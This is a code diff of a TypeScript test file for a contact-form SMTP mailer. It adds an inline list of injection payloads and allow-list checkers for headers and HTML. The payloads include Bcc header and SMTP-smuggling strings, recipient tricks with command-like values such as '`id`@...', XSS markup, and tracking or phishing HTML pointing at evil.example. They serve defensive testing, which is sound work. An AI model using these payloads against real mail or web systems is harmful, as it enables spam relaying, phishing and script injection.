@@ -1,10 +1,13 @@
 /** Whatever a visitor writes, an e-mail goes to whom it should, has our headers only, and its HTML is text. */
+import { type DefaultTreeAdapterTypes, parse } from 'parse5';
 import { afterAll, beforeAll, expect, test } from 'vitest';
 import { newRequest } from '../../../test/kit/contact-requests.ts';
 import { emailContext } from '../../../test/kit/email-context.ts';
-import { headerFindings, htmlFindings, htmlText } from '../../../test/kit/email-safety.ts';
-import { injections } from '../../../test/kit/injections.ts';
-import { type MailServer, openMailServer } from '../../../test/kit/mail-server.ts';
+import {
+  type MailServer,
+  openMailServer,
+  type ReceivedEmail,
+} from '../../../test/kit/mail-server.ts';
 import { renderAcknowledgement } from '../../outbox/email/acknowledgement.ts';
 import { renderDigest } from '../../outbox/email/digest.ts';
 import { renderNotification } from '../../outbox/email/notification.ts';
@@ -17,6 +20,71 @@ import {
 import { violationOf, visitorFieldNames } from '../../shared/fields.ts';
 import type { ContactRequest } from '../../store/store.ts';
 import { createSmtpMailer } from './smtp-mailer.ts';
+
+/** Texts that try to be interpreted: as headers, recipients, markup or templates. */
+const victim = 'victim@evil.example';
+const injections = [
+  ...['\r\n', '\n', '\r', '\u0085', '\u2028', '\u000b', '\u000c'].map(
+    (lineBreak) => `x${lineBreak}Bcc: ${victim}`,
+  ),
+  `x\r\n Bcc: ${victim}`,
+  `x\r\n\r\n<script>alert(1)</script>`,
+  'x\r\nContent-Type: text/html\r\n\r\n<b>not text</b>',
+  'x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nx\r\n--b--',
+  `=?utf-8?Q?x=0D=0ABcc:_${victim}?=`,
+  `=?utf-8?B?${btoa(`x\r\nBcc: ${victim}`)}?=`,
+  `${'x'.repeat(990)}\r\n`,
+  // Its code points end in those of line feeds.
+  '嘊嘍Bcc: victim',
+  // SMTP
+  `x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: second\r\n\r\nx\r\n.\r\n`,
+  ...['\n.\n', '\r.\r', '\n.\r\n', '\r\n.\n', '\r\n\0.\r\n'].map(
+    (end) => `x${end}MAIL FROM:<a@evil.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\n`,
+  ),
+  '.',
+  // Recipients
+  `anh@client.example,${victim}`,
+  `anh@client.example;${victim}`,
+  `anh@client.example ${victim}`,
+  `anh@client.example%0ABcc:${victim}`,
+  `anh@client.example>,<${victim}`,
+  `"anh@client.example>,<${victim}"@client.example`,
+  `"Anh" <${victim}>`,
+  `friends: ${victim}, anh@client.example;`,
+  `anh@client.example?bcc=${victim.replace('@', '%40')}`,
+  `=?utf-8?Q?anh=40client.example=3E=2C=3Cvictim?=@evil.example`,
+  `anh@client.example\u2028${victim}`,
+  `anh@client.example，${victim}`,
+  `@a.example,@b.example:anh@client.example`,
+  'anh@[127.0.0.1]',
+  '-oQ/tmp@client.example',
+  '`id`@client.example',
+  'anh\u202emoc.@client.example',
+  // Markup
+  '<script>alert(1)</script>',
+  '<img src="https://evil.example/pixel.gif" width=1 height=1>',
+  '<svg/onload=alert(1)>',
+  '<style>@import url(https://evil.example/x.css);</style>',
+  '<div style="background:url(https://evil.example/x)">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
+  '<a href=" &#106;avascript:alert(1)">click</a>',
+  '"><script>alert(1)</script>',
+  '" onmouseover="alert(1)',
+  "' onmouseover='alert(1)",
+  '</td></tr></table><script>alert(1)</script>',
+  '</title><script>alert(1)</script>',
+  '--><script>alert(1)</script><!--',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<img src=x onerror=alert(1)>>',
+  '<!--[if mso]><xml><o:OfficeDocumentSettings/></xml><![endif]-->',
+  // Templates
+  '{id} {name} {count} {company} {phone}',
+  '{constructor} {__proto__} {toString}',
+  "$& $` $' $1 $$",
+  '%s %d %n %x %@',
+];
 
 const ID = '<1@canal.example>';
 const company = emailContext.mail.to.map(({ address }) => address);
@@ -114,3 +182,72 @@ test.each(injections.map((text) => [JSON.stringify(text).slice(0, 60), text]))(
     }
   },
 );
+
+/** What an e-mail of ours may hold, by list: everything else is a finding. */
+type Node = DefaultTreeAdapterTypes.Node;
+
+const HEADERS = new Set([
+  ...['from', 'to', 'reply-to', 'subject', 'message-id', 'date'],
+  ...['mime-version', 'content-type', 'content-transfer-encoding', 'auto-submitted'],
+]);
+
+const ATTRIBUTES: Record<string, string[]> = {
+  html: ['lang'],
+  head: [],
+  meta: ['charset', 'name', 'content'],
+  title: [],
+  body: ['style'],
+  p: [],
+  a: ['href', 'style'],
+  table: ['cellpadding'],
+  tbody: [],
+  tr: ['valign'],
+  th: ['scope', 'align', 'nowrap'],
+  td: [],
+  blockquote: ['lang', 'style'],
+  br: [],
+  h2: ['style'],
+};
+/** An answer by telephone or e-mail, without recipients of its own, and the desk, without a key. */
+const LINK =
+  /^(?:tel:\+?\d+|mailto:[^?&]+\?subject=[^?&]+|https?:\/\/[^/?#@]+\/desk#(?:request=\d+|list=held))$/;
+const LOADS_OR_RUNS = /url\s*\(|@import|expression|javascript:|data:|https?:|\/\//i;
+
+function* findingsOfNode(node: Node): Generator<string> {
+  if ('attrs' in node) {
+    const allowed = ATTRIBUTES[node.tagName];
+    if (allowed === undefined) yield `it has an element <${node.tagName}>`;
+    for (const { name, value } of node.attrs) {
+      if (!allowed?.includes(name)) yield `<${node.tagName}> has an attribute ${name}`;
+      const isWrong = name === 'href' ? !LINK.test(value) : LOADS_OR_RUNS.test(value);
+      if (isWrong) yield `${name} of <${node.tagName}> is "${value}"`;
+    }
+  }
+  if (node.nodeName === '#comment') yield 'it has a comment';
+  if ('childNodes' in node) for (const child of node.childNodes) yield* findingsOfNode(child);
+  if ('content' in node) yield* findingsOfNode(node.content);
+}
+
+/** Objections to the HTML part: elements and attributes that we do not write, and what they load. */
+function htmlFindings(html: string): string[] {
+  return [...findingsOfNode(parse(html))];
+}
+
+/** The text that a mail program shows. */
+function htmlText(html: string): string {
+  const textOf = (node: Node): string => {
+    if (node.nodeName === '#text') return (node as DefaultTreeAdapterTypes.TextNode).value;
+    return 'childNodes' in node ? node.childNodes.map(textOf).join('') : '';
+  };
+  return textOf(parse(html));
+}
+
+function headerFindings({ email }: ReceivedEmail): string[] {
+  const names = email.headers.map(({ key }) => key.toLowerCase());
+  const findings = names.filter((name) => !HEADERS.has(name)).map((name) => `a header "${name}"`);
+  if (new Set(names).size !== names.length) findings.push(`a header twice: ${names.join(', ')}`);
+  if (/[\r\n]/.test(email.subject ?? '')) findings.push('a subject of several lines');
+  if (email.attachments.length > 0) findings.push('an attachment');
+  if (email.cc !== undefined || email.bcc !== undefined) findings.push('copies to others');
+  return findings;
+}
